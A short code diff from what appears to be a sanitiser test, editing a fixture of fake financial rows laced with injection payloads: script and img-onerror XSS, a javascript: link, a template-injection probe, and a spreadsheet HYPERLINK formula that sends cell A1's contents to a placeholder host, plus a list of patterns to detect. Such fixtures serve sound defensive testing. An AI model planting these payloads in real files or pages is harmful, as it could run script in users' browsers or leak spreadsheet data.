@@ -44,7 +44,7 @@ HOSTILE = """
 
 	FY2017
 <script>alert("x")</script> revenue	1,234
-=HYPERLINK("http://x.invalid/?a="&A1,"net sales")	2,345
+=HYPERLINK("http://x.invalid/?a="&A1,"x") net sales	2,345
 "><img src=x onerror=alert("x")> {{ 7*7 }} ```{raw} html [x](javascript:alert("x")) $x$	3,456
 """
 EVIL = ("<script>alert", "<img src=x", 'href="javascript:')
